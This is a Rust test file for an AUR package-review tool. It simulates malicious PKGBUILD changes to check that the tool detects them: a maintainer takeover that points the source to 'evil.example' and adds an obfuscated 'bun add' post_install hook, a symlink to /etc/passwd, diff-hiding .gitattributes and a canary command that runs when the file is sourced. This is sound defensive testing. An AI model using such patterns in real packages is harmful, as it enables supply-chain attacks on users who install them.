//! The review of real recipes from real repositories.

use std::fs;

use omg_aur::recipes::{CommitId, Recipes, Reviewed};
use omg_aur::review::{Facts, Risk, review};
use omg_core::{AurFacts, Review, Severity};

use crate::world::{World, base};

const NOW: u64 = 1_763_688_976;
const RECIPE: &str = "pkgname=x\npkgver=1\npkgrel=1\nurl='https://github.com/a/x'\n\
                      source=(\"https://github.com/a/x/archive/v$pkgver.tar.gz\")\n\
                      sha256sums=('29f7dd7e7e0ecaff7b1d4fbf8ca05b4b7e2b4ed1b1d2bd2a9f2f3d0f5a4d9e11')\n";
const SRCINFO: &str = "pkgbase = x\n\tpkgver = 1\n\tpkgrel = 1\n\turl = https://github.com/a/x\n\
                       \tsource = https://github.com/a/x/archive/v1.tar.gz\n\
                       \tsha256sums = 29f7dd7e7e0ecaff7b1d4fbf8ca05b4b7e2b4ed1b1d2bd2a9f2f3d0f5a4d9e11\n\
                       \npkgname = x\n";

fn facts(maintainer: Option<&str>) -> Facts<'_> {
    let aur =
        AurFacts { maintainer, first_submitted: 1, last_modified: NOW, ..AurFacts::default() };
    Facts::new(aur, NOW)
}

/// Reviews the newest commit against what is remembered.
fn newest(recipes: &Recipes, reviewed: &Reviewed, maintainer: Option<&str>) -> Review {
    let commit = recipes.fetch(&base("x")).unwrap().commit;
    review(recipes, &base("x"), &commit, reviewed.get(&base("x")), &facts(maintainer)).unwrap()
}

fn kinds(review: &Review, severity: Severity) -> Vec<&str> {
    let marks = review.marks.iter().filter(|mark| mark.severity == severity);
    marks.map(|mark| mark.kind.as_str()).collect()
}

fn has(review: &Review, risk: Risk) -> bool {
    review.marks.iter().any(|mark| mark.kind == risk.as_str())
}

#[test]
fn a_takeover_is_held_against_the_last_review() {
    let world = World::new();
    let first = world.commit("x", &[("PKGBUILD", RECIPE), (".SRCINFO", SRCINFO)]);
    let (recipes, mut reviewed) = (world.recipes(), Reviewed::open(&world.path("state")).unwrap());
    let fresh = newest(&recipes, &reviewed, Some("alice"));
    assert_eq!((fresh.from.as_deref(), fresh.to.as_str()), (None, first.as_str()));
    assert!(fresh.diff.contains("+pkgname=x\n") && fresh.diff.contains("+\tpkgver = 1\n"));
    assert!(kinds(&fresh, Severity::Danger).is_empty(), "{:#?}", fresh.marks);
    assert!(has(&fresh, Risk::SourceHost));
    reviewed.remember(&base("x"), &first, Some("alice"), NOW).unwrap();
    // The cache may go; what was reviewed stays.
    fs::remove_dir_all(world.path("cache")).unwrap();

    let recipe =
        RECIPE.replace("pkgver=1", "pkgver=2").replace("a/x/archive/v$pkgver", "a/x/archive/v2");
    let recipe =
        format!("{recipe}install=x.install\n").replace("github.com/a/x/archive", "evil.example/x");
    let srcinfo = SRCINFO
        .replace("pkgver = 1", "pkgver = 2")
        .replace("github.com/a/x/archive/v1", "evil.example/x/v2");
    let install = "post_install() {\n  'b''u''n' add js-digest\n}\n";
    let files = [("PKGBUILD", recipe.as_str()), (".SRCINFO", &srcinfo), ("x.install", install)];
    let second = world.commit("x", &files);
    let recipes = world.recipes();
    let taken = newest(&recipes, &Reviewed::open(&world.path("state")).unwrap(), Some("mallory"));
    assert_eq!((taken.from.as_deref(), taken.to.as_str()), (Some(first.as_str()), second.as_str()));
    assert!(taken.diff.contains("-pkgver=1\n+pkgver=2\n"), "{}", taken.diff);
    assert!(taken.diff.contains("+  'b''u''n' add js-digest\n"), "{}", taken.diff);
    assert!(!taken.diff.contains("+pkgrel=1"), "only what changed: {}", taken.diff);
    let dangers = kinds(&taken, Severity::Danger);
    for risk in
        [Risk::MaintainerChanged, Risk::RecentlyAdopted, Risk::ForeignPackages, Risk::Disguised]
    {
        assert!(dangers.contains(&risk.as_str()), "{}: {:#?}", risk.as_str(), taken.marks);
    }
    assert!(has(&taken, Risk::NewHost) && !has(&taken, Risk::SourceHost));
    let new = taken.marks.iter().find(|mark| mark.kind == "install-script").unwrap();
    assert_eq!((new.text.as_str(), new.severity), ("x.install is new", Severity::Caution));
    let order: Vec<_> = taken.marks.iter().map(|mark| mark.severity).collect();
    assert!(order.is_sorted_by(|a, b| a >= b), "most severe first");
}

#[test]
fn a_recipe_that_is_read_for_a_review_does_not_run() {
    let world = World::new();
    let recipe = format!("touch {}\n{RECIPE}", world.canary().display());
    world.commit("x", &[("PKGBUILD", &recipe), (".SRCINFO", SRCINFO)]);
    let careless = format!("source {}", world.work("x").join("PKGBUILD").display());
    std::process::Command::new("bash").args(["-c", &careless]).status().unwrap();
    assert!(world.sprung(), "the trap does not work");
    let seen = newest(&world.recipes(), &Reviewed::open(&world.path("state")).unwrap(), None);
    assert!(!world.sprung());
    assert!(has(&seen, Risk::RunsWhenSourced));
}

#[test]
fn attributes_do_not_hide_a_change() {
    let world = World::new();
    let attributes = "PKGBUILD -diff\n*.install binary\n.gitattributes -diff\n";
    let first = world.commit("x", &[("PKGBUILD", RECIPE), (".gitattributes", attributes)]);
    let changed = RECIPE.replace("pkgver=1", "pkgver=6");
    world.commit("x", &[("PKGBUILD", &changed), ("x.install", "post_install() { :; }\n")]);
    let careless = world.git(&world.work("x"), &["diff", "HEAD~1", "HEAD"]);
    let careless = String::from_utf8(careless.stdout).unwrap();
    assert!(!careless.contains("+pkgver=6") && !careless.contains("+post_install"), "{careless}");

    let mut reviewed = Reviewed::open(&world.path("state")).unwrap();
    reviewed.remember(&base("x"), &first, None, NOW).unwrap();
    let recipes = world.recipes();
    newest(&recipes, &reviewed, None);
    // Which attributes a bare repository obeys differs among versions of git; these always count.
    fs::create_dir_all(world.path("cache/x.git/info")).unwrap();
    fs::write(world.path("cache/x.git/info/attributes"), attributes).unwrap();
    let seen = newest(&recipes, &reviewed, None);
    assert!(seen.diff.contains("-pkgver=1\n+pkgver=6\n"), "{}", seen.diff);
    assert!(seen.diff.contains("+post_install() { :; }\n"), "{}", seen.diff);
}

#[test]
fn renames_links_submodules_and_bytes_are_told() {
    let world = World::new();
    let first =
        world.commit("x", &[("PKGBUILD", RECIPE), (".SRCINFO", SRCINFO), ("a.patch", "a\n")]);
    let work = world.work("x");
    fs::rename(work.join("a.patch"), work.join("b\nc.patch")).unwrap();
    fs::write(work.join("tool"), b"\x7fELF\0\0").unwrap();
    world.link("x", "passwd", "/etc/passwd");
    world.publish("x");
    let mut reviewed = Reviewed::open(&world.path("state")).unwrap();
    reviewed.remember(&base("x"), &first, None, NOW).unwrap();
    let seen = newest(&world.recipes(), &reviewed, None);
    assert!(seen.diff.contains("--- a/a.patch\n+++ /dev/null\n"), "{}", seen.diff);
    assert!(seen.diff.contains("+++ \"b/b\\nc.patch\"\n"), "{}", seen.diff);
    assert!(seen.diff.contains("new file mode 120000") && seen.diff.contains("+/etc/passwd"));
    assert!(seen.diff.ends_with("Not shown: tool\n"), "{}", seen.diff);
    for risk in [Risk::Symlink, Risk::BinaryFile, Risk::UnusualPath] {
        assert!(kinds(&seen, Severity::Danger).contains(&risk.as_str()), "{:#?}", seen.marks);
    }
}

#[test]
fn a_reviewed_commit_that_is_gone_is_said() {
    let world = World::new();
    let first = world.commit("x", &[("PKGBUILD", RECIPE), (".SRCINFO", SRCINFO)]);
    let mut reviewed = Reviewed::open(&world.path("state")).unwrap();
    reviewed.remember(&base("x"), &first, None, NOW).unwrap();
    let recipes = world.recipes();
    let same = newest(&recipes, &reviewed, None);
    assert!(same.diff.is_empty() && !has(&same, Risk::HistoryRewritten), "{}", same.diff);

    fs::remove_dir_all(world.work("x")).unwrap();
    let changed = RECIPE.replace("pkgver=1", "pkgver=3");
    world.commit("x", &[("PKGBUILD", &changed), (".SRCINFO", SRCINFO)]);
    let rewritten = newest(&recipes, &reviewed, None);
    assert!(kinds(&rewritten, Severity::Danger).contains(&"history-rewritten"));
    assert_eq!(rewritten.from.as_deref(), Some(first.as_str()), "our copy still has it");
    assert!(rewritten.diff.contains("-pkgver=1\n+pkgver=3\n"));

    fs::remove_dir_all(world.path("cache")).unwrap();
    let gone = newest(&world.recipes(), &reviewed, None);
    assert!(kinds(&gone, Severity::Danger).contains(&"history-rewritten"));
    assert_eq!(gone.from, None);
    assert!(gone.diff.contains("+pkgname=x\n"), "whole files: {}", gone.diff);
    let never = CommitId::new(&"0".repeat(40)).unwrap();
    assert!(review(&recipes, &base("x"), &never, None, &facts(None)).is_err());
}

#[test]
fn a_diff_beyond_its_limit_is_cut_and_said() {
    let world = World::new();
    let long = "0123456789abcdef\n".repeat(50_000);
    let files =
        [("a.txt", long.as_str()), ("b.txt", &long), ("c.txt", &long), ("PKGBUILD", RECIPE)];
    world.commit("x", &files);
    let seen = newest(&world.recipes(), &Reviewed::open(&world.path("state")).unwrap(), None);
    assert!(seen.diff.len() <= omg_aur::recipes::MAX_DIFF + 100);
    assert!(kinds(&seen, Severity::Danger).contains(&"not-read-in-full"), "{:#?}", seen.marks);
}
